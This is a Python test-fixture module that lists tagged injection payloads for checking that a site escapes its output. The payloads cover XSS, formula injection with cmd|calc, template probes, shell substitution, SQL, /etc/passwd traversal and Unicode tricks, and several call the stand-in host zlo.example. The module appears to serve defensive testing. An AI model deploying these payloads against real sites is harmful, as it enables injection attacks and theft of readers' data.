"""What people have tried on sites: markup, addresses, lines of other formats, signs unseen.

Each holds a word of its own, ``zq01x`` and so on, by which it is found in whatever is published.
"""

from __future__ import annotations

import re
from dataclasses import dataclass

EVIL = "zlo.example"
"""The host to which they would send a reader, or what he types."""

_TEXTS = {
    # elements
    "script": "<script>alert('M')</script>",
    "script from elsewhere": f"<script src=//{EVIL}/M.js></script>",
    "handler": "<img src=x onerror=alert('M')>",
    "svg": "<svg/onload=alert('M')>",
    "script in svg": "<svg><script>alert&#40;'M'&#41;</script></svg>",
    "frame": '<iframe srcdoc="&lt;script&gt;alert(M)&lt;/script&gt;">',
    "end of everything": "</title></textarea></style></script><script>M()</script>",
    "comment": "<!--><img src=M onerror=alert(1)>-->",
    "cdata": "<![CDATA[<script>alert('M')</script>]]>",
    "instruction": '<?xml-stylesheet href="javascript:M"?>',
    "style": f"<style>@import'//{EVIL}/M.css';</style>",
    "refresh": f'<meta http-equiv=refresh content="0;url=//{EVIL}/M">',
    "base": f"<base href=//{EVIL}/M/>",
    "mathml": "<math><mtext></form><form><mglyph><style></math><img src onerror=alert('M')>",
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(`M`)>">',
    "letter case": "<ScRiPt>alert('M')</sCrIpT>",
    "form": f"<form action=//{EVIL}/M><button>Dalej</button></form>",
    "end of json-ld": "</script><script>alert('M')//",
    "link of entities": "<a href=javascript&colon;alert('M')>Dalej</a>",
    "slash for a space": "<img/src/onerror=alert('M')>",
    # ways out of an attribute or a string
    "double quote": "\" onmouseover=\"alert('M')",
    "single quote": "' onfocus='alert(`M`)' autofocus='",
    "style attribute": f'M" style="background:url(//{EVIL}/M)" x="',
    "no quotes": "M onload=alert(1)//",
    "grave accents": "`M` onload=`alert(1)`",
    "greater than": '">M',
    "address breaks out": 'M" href="javascript:alert(1)',
    "backslashes": "\\\"-alert('M')-\\\"",
    "string ends": "';alert('M')//",
    "template string": "${alert('M')}",
    "escape of a string": "\\u003cscript\\u003ealert('M')",
    "json": f'","@context":"https://{EVIL}/M","x":"',
    "comment ends": "*/alert('M')/*",
    # entities
    "entities": "&lt;script&gt;alert('M')&lt;/script&gt;",
    "numbers of signs": "&#60;script&#x3e;alert('M')",
    "escaped twice": "&amp;lt;img src=M onerror=alert(1)&amp;gt;",
    "entity of a file": "&xxe; M &file;",
    # addresses
    "javascript": "javascript:alert('M')",
    "javascript by entities": "java&Tab;script&colon;alert('M')",
    "data": "data:text/html;base64,PHNjcmlwdD4M",
    "vbscript": "vbscript:msgbox('M')",
    "no scheme": f"//{EVIL}/M",
    "address with a handler": f'https://{EVIL}/M?"onclick=alert(1)',
    # other formats
    "end of cdata": "]]>M]]&gt;",
    "lines of a calendar": "M\r\nATTENDEE:mailto:zlo@zlo.example",
    "lone carriage return": "M\rX-EVIL:1",
    "end of a calendar": "M\nEND:VEVENT\nEND:VCALENDAR",
    "escapes of a calendar": "M\\nDTSTART:20010101T000000Z\\,\\;VALUE=DATE",
    "header": "M%0d%0aSet-Cookie: a=M",
    "formula": "=cmd|'/c calc'!A1 M",
    "formula with plus": "+1+cmd|' /C M'!A0",
    "formula with minus": "-2+3+cmd|' /C M'!A0",
    "formula with at": "@SUM(1+M)",
    "formula of a link": f'=HYPERLINK("https://{EVIL}/M";"Dalej")',
    "formula after a tab": "\t=1+M",
    "jinja": "{{ 7*7 }}M{{ ''.__class__.__mro__ }}",
    "jinja block": "{% for x in M %}{% endfor %}",
    "jinja comment": "{# M #}",
    "jinja raw": "{% raw %}M{% endraw %}",
    "typst": '#import "/etc/passwd": M; #sys.inputs #read("M")',
    "typst markup": "= M *b* _i_ $x^2$ @ref ~ \\",
    "shell": "$(touch M) `touch M` | tee M",
    "sql": "' OR 1=1;--M",
    # files
    "path": "../../../../etc/passwd-M",
    "path with backslashes": "..\\..\\M",
    "path of the system": "/etc/passwd%00M",
    # Markdown
    "markdown link": "[M](javascript:alert(1))",
    "markdown picture": '![M](x"onerror="alert(1))',
    "markdown reference": "[M][1]\n\n[1]: javascript:alert(1)",
    "markdown address": "<javascript:alert('M')>",
    "markdown title": f'[M](https://{EVIL}/ "x" onmouseover=alert(1))',
    "markdown attributes": "M {: onclick=alert(1) }",
    "markdown raw": "`` ` `` M ``<script>``",
    # signs that nobody sees
    "right to left": "M\u202egpj.exe",
    "isolates": "M\u2066\u2069",
    "nothing wide": "M\u200b\u200d\ufeff",
    "null": "M\x00",
    "escape": "M\x1b[31m",
    "line separator": "M\u2028\u2029",
    "surrogate of a bell": "M\x07\x7f\x9b",
}


@dataclass(frozen=True)
class Payload:
    """``mark``: its own word."""

    name: str
    mark: str
    text: str


PAYLOADS = tuple(
    Payload(name, mark, re.sub(r"\bM\b|M(?=[.(\[])|M$", mark, text))
    for number, (name, text) in enumerate(_TEXTS.items())
    for mark in [f"zq{number:02}x"]
)
MARKS = re.compile(r"zq[0-9]{2}x")
